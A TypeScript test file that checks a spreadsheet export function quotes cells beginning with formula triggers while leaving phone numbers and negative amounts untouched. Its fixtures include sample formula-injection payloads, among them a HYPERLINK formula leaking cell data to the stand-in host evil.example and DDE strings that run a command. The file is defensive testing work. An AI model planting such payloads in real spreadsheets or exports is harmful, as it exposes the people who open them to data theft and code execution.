// Proves formula-injection neutralization: every trigger (=, +, -, @, also after spaces; tab and CR first) gets a leading
// quote, phone numbers and signed amounts stay intact, and the rule is stable and total.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutralizeCell, neutralizeRow } from '../../../src/domain/export/neutralize';

describe('neutralizeCell', () => {
  it.each([
    // Formulas and DDE payloads: quoted.
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['  =1+1', "'  =1+1"],
    [' @foo', "' @foo"],
    ['\t=1+1', "'\t=1+1"],
    ['\tplain', "'\tplain"],
    ['\rplain', "'\rplain"],
    ['-1+2', "'-1+2"],
    ['+A1', "'+A1"],
    ['-', '-'],
    ['=', "'="],
    ['@', "'@"],
    // Phone numbers and signed amounts: intact.
    ['+1 212 555 0100', '+1 212 555 0100'],
    ['+12125550100', '+12125550100'],
    ['+1 (212) 555-0100', '+1 (212) 555-0100'],
    ['+44 (0)20 7946 0958', '+44 (0)20 7946 0958'],
    ['+1.212.555.0100', '+1.212.555.0100'],
    ['+12125550100 ext. 12', '+12125550100 ext. 12'],
    ['+1 212 555 0100 x7', '+1 212 555 0100 x7'],
    ['+1 512 846 8578 #235', '+1 512 846 8578 #235'],
    ['+1 (986) 904-1600 #274', '+1 (986) 904-1600 #274'],
    ['+1 212-973-5233, ext. 767', '+1 212-973-5233, ext. 767'],
    ['+1 (423) 742-7487 ext695', '+1 (423) 742-7487 ext695'],
    ['+1 212 555 0100 Extension 4', '+1 212 555 0100 Extension 4'],
    ['+1 212 555 0100 #A1', "'+1 212 555 0100 #A1"],
    ['+1 212 555 0100, SUM(A1)', "'+1 212 555 0100, SUM(A1)"],
    ['-12.50', '-12.50'],
    ['-5', '-5'],
    [' -5', ' -5'],
    ['---', '---'],
    // Nothing to do.
    ['', ''],
    ['John Smith', 'John Smith'],
    ['212-555-0100', '212-555-0100'],
    ['a=b', 'a=b'],
    ['john@example.com', 'john@example.com'],
    ['ACME - West', 'ACME - West'],
  ])('%j → %j', (input, want) => {
    expect(neutralizeCell(input)).toBe(want);
  });

  it('never leaves a cell a spreadsheet would read as a formula, unless it is a signed number', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), (s) => {
        const n = neutralizeCell(s);
        const risky = /^ *[=+\-@]|^[\t\r]/.test(n);
        if (risky) expect(n).toMatch(/^ *[+-][\d ().\-/x]*|^ *-+ *$/i);
        expect(n === s || n === `'${s}`).toBe(true);
      }),
    );
  });

  it('is stable: neutralizing twice equals once', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), (s) => {
        expect(neutralizeCell(neutralizeCell(s))).toBe(neutralizeCell(s));
      }),
    );
  });

  it('returns the same row when nothing changes, a copy when a cell does', () => {
    const row = ['a', 'b'];
    expect(neutralizeRow(row)).toBe(row);
    const risky = ['a', '=1'];
    expect(neutralizeRow(risky)).toEqual(['a', "'=1"]);
    expect(risky).toEqual(['a', '=1']);
  });
});
